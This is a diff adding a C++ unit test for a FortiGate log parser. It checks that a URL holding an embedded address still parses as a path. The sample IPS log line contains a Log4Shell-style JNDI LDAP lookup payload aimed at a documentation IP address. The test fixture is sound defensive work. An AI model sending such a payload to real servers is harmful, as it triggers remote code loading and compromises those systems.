@@ -146,5 +146,14 @@ TEST(FortigateTest, LeavesOtherPairsAlone) {
   EXPECT_EQ(garbage["source.ip"], "");
 }
 
+TEST(FortigateTest, APathThatHoldsAnAddressIsStillAPath) {
+  const ParsedLine line(
+      "date=2026-01-05 time=10:11:12 devname=\"FGT1\" devid=\"FG100E\" logid=\"0419016384\" "
+      "type=\"utm\" subtype=\"ips\" level=\"alert\" srcip=192.0.2.5 dstip=198.51.100.9 "
+      "hostname=\"www.site.example\" url=\"/?x=${jndi:ldap://203.0.113.9/a}\" action=\"dropped\"");
+  EXPECT_EQ(line["url.domain"], "www.site.example");
+  EXPECT_EQ(line["url.path"], "/");
+}
+
 }  // namespace
 }  // namespace dims
